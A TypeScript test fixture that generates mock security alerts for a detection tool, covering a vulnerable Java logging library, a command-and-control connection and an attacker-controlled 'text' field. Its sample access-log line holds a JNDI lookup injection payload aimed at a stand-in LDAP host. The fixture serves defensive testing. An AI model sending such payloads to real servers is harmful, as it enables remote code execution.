// What do agents report? Alerts as they write them, some by attackers who name everything.

interface Options {
  id: string; host: string; app: string; score?: number; minutes?: number; text?: string; peer?: string; inbound?: boolean; poor?: boolean;
}
const LEVELS = ['informational', 'low', 'medium', 'high', 'critical'];
const ago = (minutes: number) => new Date(Date.now() - minutes * 60_000).toISOString();

/** One alert; `text` stands wherever an attacker can write something. */
export function alert(o: Options) {
  const score = o.score ?? 82;
  const minutes = o.minutes ?? 12;
  const text = o.text;
  const peer = o.peer ?? '203.0.113.66';
  const direction = o.inbound ? 'inbound' : 'outbound';
  const process = {
    key: { pid: 4711, start_ns: 900_000_000_000 }, started: ago(60 * 26), parent: 1, command: (text ?? 'java').slice(0, 15), exe: text ?? '/usr/lib/jvm/bin/java', exe_device: 2049, exe_inode: 47110,
    exe_sha256: '3b1f'.repeat(16), argv: text ? [text, text] : ['/usr/lib/jvm/bin/java', '-jar', '/opt/shop/shop.jar', '--token=[redacted]'], cwd: text ?? '/opt/shop', uid: 33, cgroup_id: 471100, cgroup: `/system.slice/${o.app}.service`,
    netns: 4026531840, unit: `${o.app}.service`, ...(text ? { container: { id: 'c0ffee', runtime: 'docker', name: text, image: text, pod: text } } : {}),
    ancestry: [{ pid: 812, start_ns: 800_000_000_000, exe: text ?? '/usr/bin/catalina.sh', argv: [] }, { pid: 1, start_ns: 1, exe: '/usr/lib/systemd/systemd', argv: [] }],
  };
  const connection = {
    id: { cookie: 2, peer: 0 }, protocol: 'tcp', direction, local: '198.51.100.10:43210', remote: peer.includes(':') ? `[${peer}]:1389` : `${peer}:1389`, state: 'established', opened: ago(minutes), bytes_in: 7000, bytes_out: 90_000 + score, netns: 4026531840,
    predates_sensor: false, remote_name: text ?? 'cdn.evil.example', process,
  };
  const claims = [
    { feed: text ?? 'c2-tracker', matched: peer, category: 'c2', direction: 'out', confidence: 90, first_seen: ago(60 * 24 * 9), last_seen: ago(60), labels: text ? [text, text] : ['cobalt-strike'], source: { license: text ?? '' } },
    { feed: 'example-drop', matched: '203.0.113.0/24', category: 'hijacked', direction: 'both', confidence: 60, first_seen: ago(60 * 24 * 40), last_seen: ago(60 * 5) },
  ].map(({ source, ...claim }: Record<string, unknown> & { source?: unknown }) => (void source, claim));
  const finding = (n: number, presence: string) => ({
    purl: `pkg:maven/org.example/logging-core@2.14.${n}`, name: text ?? 'logging-core', version: `2.14.${n}`, id: `EXAMPLE-2026-000${n}`, cves: text ? [text, text, text] : [`CVE-2026-1000${n}`], state: 'affected', presence, fixed: '2.17.1',
    severity: { nvd: '10.0' }, cvss_tenths: 100 - n, known_exploited: n === 1 && score >= 60, epss_bp: 9750 - n, fix_command: text ?? 'replace /opt/shop/lib/logging-core-2.14.1.jar by 2.17.1', source: text ?? 'osv',
  });
  const raw = text ?? `198.51.100.77 - - [20/Nov/2026:03:00:01 +0000] "GET /?x=\${jndi:ldap://${peer}:1389/a} HTTP/1.1" 200 12 "-" "Mozilla/5.0"`;
  return {
    schema: 1, id: o.id, rule: score >= 90 ? 'exploited_then_called_back' : `bad_${o.inbound ? 'client' : 'server'}_of_vulnerable_app`,
    title: text ? `${text} connected to ${text}` : o.inbound ? `Scanner ${peer} connected to ${o.app}@${o.host}; vulnerable to CVE-2026-10001` : `${o.app}@${o.host} connected to command-and-control server ${peer}:1389 (still open); vulnerable to CVE-2026-10001 and 1 more, exploited in the wild`,
    host: o.host, application: { kind: 'unit', id: `${o.app}.service`, name: o.app }, indicator: peer, direction,
    severity: { score, level: LEVELS[Math.min(4, Math.floor(score / 20))], factors: [
      { name: 'claim-confidence', points: 13, reason: text ?? 'c2-tracker is sure to 90 of 100' }, { name: 'category-c2', points: 15, reason: 'called c2' }, { name: 'known-exploited', points: 15, reason: 'CVE-2026-10001 is exploited in the wild' },
      { name: 'code-loaded', points: 5, reason: 'logging-core 2.14.1 runs' }, { name: 'log-attempted', points: 8, reason: 'jndi by /var/log/shop/access.log:3' } ] },
    confidence: 90, confidence_why: [{ name: 'claim', points: 90, reason: text ?? 'c2-tracker calls it c2, sure to 90 of 100' }],
    first_seen: ago(minutes), last_seen: ago(Math.max(0, minutes - 8)), count: 14, bytes_in: 7000, bytes_out: 90_000 + score, still_open: score > 50, beacon_score: score > 80 ? 87 : undefined,
    process: o.poor ? undefined : process, connections: o.poor ? [] : [connection], claims, guard: text ? [{ list: text, range: '203.0.113.0/24', kind: 'shared' }] : [], findings: o.poor ? [] : [finding(1, 'loaded'), finding(2, 'installed')],
    techniques: text ? ['T1190', 'T1190'] : ['T1190', 'T1071'], suggested: [`tripoint block ${peer} --for 24h --reason 'alert ${o.id}'`, text ?? 'replace /opt/shop/lib/logging-core-2.14.1.jar by 2.17.1'],
    missing: [{ what: 'name', why: text ?? 'no answer of a name server with this address was seen' }],
    investigation: o.poor ? undefined : {
      at: ago(Math.max(0, minutes - 1)), took_ms: 12,
      logs: { verdict: score >= 80 ? 'likely_succeeded' : 'attempted', lines: 3, attempts: [{ kind: 'line', file: text ?? '/var/log/shop/access.log', line: 3, offset: 300, time: ago(minutes), remote: '198.51.100.77', family: 'jndi', attack: ['T1190'], cves: ['CVE-2026-10001'], aims: [peer], verdict: 'attempted', rule: 'jndi-lookup', reasons: [text ?? 'jndi-lookup matches what was sent'], raw }],
        examples: [{ file: text ?? '/var/log/shop/access.log', line: 2, raw }], read: [{ file: text ?? '/var/log/shop/access.log', found: text ?? 'held open for writing', lines: 4200, of_peer: 3 }], missing: [text ?? '/var/log/shop/access.log.7.gz was written before the time asked for'] },
      why: { cause: 'inbound-reaction', confidence: 80, reasons: [text ?? 'a request of 198.51.100.77 a second before names the peer'], names: [{ name: text ?? 'cdn.evil.example', how: 'dns', asker: text ?? 'java', at: ago(minutes) }], mentions: text ? [{ place: text, file: text, line: 1, matched: text, written: text, text, counts: true }] : [], missing: text ? [text] : [] },
    },
  };
}

export const item = (one: ReturnType<typeof alert>) => ({ type: 'alert', alert: one });
